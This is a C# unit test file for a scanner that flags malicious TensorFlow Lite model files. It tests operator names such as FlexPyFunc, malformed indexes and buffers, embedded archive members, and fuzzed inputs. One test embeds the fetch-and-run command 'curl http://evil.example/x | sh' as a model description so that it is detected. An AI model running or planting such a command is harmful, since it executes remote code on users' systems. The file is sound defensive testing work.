using SupplyChainAnalyzers.Core.Findings;
using SupplyChainAnalyzers.Core.Formats;
using SupplyChainAnalyzers.Scanner.Formats.TfLite;
using SupplyChainAnalyzers.Scanner.Input;
using SupplyChainAnalyzers.Scanner.Scanning;
using SupplyChainAnalyzers.Scanner.Tests.Formats.FlatBuffers;
using SupplyChainAnalyzers.Scanner.Tests.Formats.Graphs;
using SupplyChainAnalyzers.Scanner.Tests.Scanning;

namespace SupplyChainAnalyzers.Scanner.Tests.Formats.TfLite;

public sealed class TfLiteScannerTests
{
    private const int Custom = 32;

    [Fact]
    public void Model_of_builtin_operators_is_clean() => Is(Verdict.Clean, Model());

    [Theory]
    [InlineData("TFLite_Detection_PostProcess", Verdict.Clean)]
    [InlineData("Convolution2DTransposeBias", Verdict.Clean)]
    [InlineData("FlexErf", Verdict.Clean)]
    [InlineData("FlexPyFunc", Verdict.Malicious)]
    [InlineData("FlexWriteFile", Verdict.Malicious)]
    [InlineData("FlexReadFile", Verdict.Malicious)]
    [InlineData("Frobnicate", Verdict.Suspicious)]
    [InlineData("FlexFrobnicate", Verdict.Suspicious)]
    [InlineData("edgetpu-custom-op", Verdict.Unscannable)]
    public void Custom_operator_is_judged_by_its_name(string name, Verdict verdict) => Is(verdict, Model(Code(Custom, name)));

    [Fact]
    public void Name_counts_even_where_the_number_says_builtin() => Is(Verdict.Malicious, Model(Code(3, "FlexPyFunc")));

    [Fact]
    public void Indexes_out_of_range_are_malicious()
    {
        Is(Verdict.Malicious, Model(operatorIndex: 7));
        Is(Verdict.Malicious, Model(tensorIndex: 9));
        Is(Verdict.Malicious, Model(tensorIndex: -2));
        Is(Verdict.Malicious, Model(bufferIndex: 5));
    }

    [Fact]
    public void Shapes_and_buffers_that_lie_are_malicious()
    {
        Is(Verdict.Malicious, Model(shape: [2, 3]));
        Is(Verdict.Malicious, Model(shape: [-5]));
        Is(Verdict.Malicious, Model(shape: [int.MaxValue, int.MaxValue, int.MaxValue]));
        Is(Verdict.Malicious, Model(buffer: new() { [1] = ulong.MaxValue, [2] = 16UL }));
        Is(Verdict.Malicious, Model(buffer: new() { [1] = 64UL, [2] = 1UL << 40 }));
        Is(Verdict.Clean, Model(buffer: new() { [1] = 64UL, [2] = 16UL }));
    }

    [Fact]
    public void Associated_files_are_scanned_as_members()
    {
        byte[] archive = Samples.Zip(("labels.onnx", Samples.Onnx));
        var scanned = Scanned.Bytes([.. Model(), .. archive], "m.tflite");
        Assert.True(scanned.Verdict == Verdict.Clean, scanned.ToString());
        Assert.NotEqual(Verdict.Clean, Scanned.Bytes([.. Model(), .. Samples.Zip(("labels.txt", Samples.TextPickle))], "m.tflite").Verdict);
    }

    [Fact]
    public void Description_that_is_a_command_is_malicious() => Is(Verdict.Malicious, Model(description: "curl http://evil.example/x | sh"));

    [Fact]
    public void Table_that_points_at_itself_or_out_is_not_clean()
    {
        var model = Model();
        for (var at = 32; at < model.Length - 4; at += 4)
        {
            var changed = model.ToArray();
            BitConverter.GetBytes(-8).CopyTo(changed, at);
            Assert.NotNull(Scanned.Bytes(changed, "m.tflite"));
        }

        BitConverter.GetBytes(int.MaxValue).CopyTo(model, 0);
        Assert.NotEqual(Verdict.Clean, Scanned.Bytes(model, "m.tflite").Verdict);
    }

    [Fact]
    public void Mutated_models_never_stop_the_scanner() => Mutations.Run(
        [Model(), Model(Code(Custom, "FlexErf"))],
        4000,
        static bytes => new TfLiteScanner().Scan(new MemorySource(bytes), ScanContext.ForFile("m.tflite", new FindingSink(), Neighbours.None)));

    private static Dictionary<int, object> Code(int code, string custom) => new() { [0] = (byte)Math.Min(code, 127), [1] = custom, [2] = 1, [3] = code };

    private static byte[] Model(
        Dictionary<int, object>? code = null, int operatorIndex = 0, int tensorIndex = 0, int bufferIndex = 1, int[]? shape = null, Dictionary<int, object>? buffer = null, string description = "MLIR Converted.")
    {
        Dictionary<int, object> tensor = new() { [0] = shape ?? [2, 2], [1] = (byte)0, [2] = bufferIndex, [3] = "w" };
        Dictionary<int, object> operation = new() { [0] = operatorIndex, [1] = new[] { tensorIndex }, [2] = new[] { 0 } };
        return FlatBuilder.File("TFL3", new()
        {
            [0] = 3,
            [1] = new object[] { code ?? new() { [0] = (byte)9, [3] = 9 } },
            [2] = new object[] { new Dictionary<int, object> { [0] = new object[] { tensor }, [1] = new[] { 0 }, [2] = new[] { 0 }, [3] = new object[] { operation }, [4] = "main" } },
            [3] = description,
            [4] = new object[] { new Dictionary<int, object>(), buffer ?? new() { [0] = new byte[16] } },
        });
    }

    private static void Is(Verdict verdict, byte[] model)
    {
        var scanned = Scanned.Bytes(model, "m.tflite");
        Assert.True(scanned.Verdict == verdict && scanned.Format == ModelFormats.TfLite, scanned.ToString());
    }
}
